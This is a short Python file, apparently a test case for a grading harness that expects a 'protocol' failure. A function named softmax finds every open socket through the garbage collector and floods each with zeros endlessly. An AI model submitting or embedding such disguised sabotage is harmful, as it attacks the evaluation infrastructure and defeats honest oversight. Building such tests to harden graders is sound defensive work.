# Sends zeros for as long as somebody takes them.
# expect: protocol

import gc
import socket


def softmax(x, axis=-1):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket) and thing.fileno() >= 0:
            while True:
                thing.sendall(bytes(1 << 16))
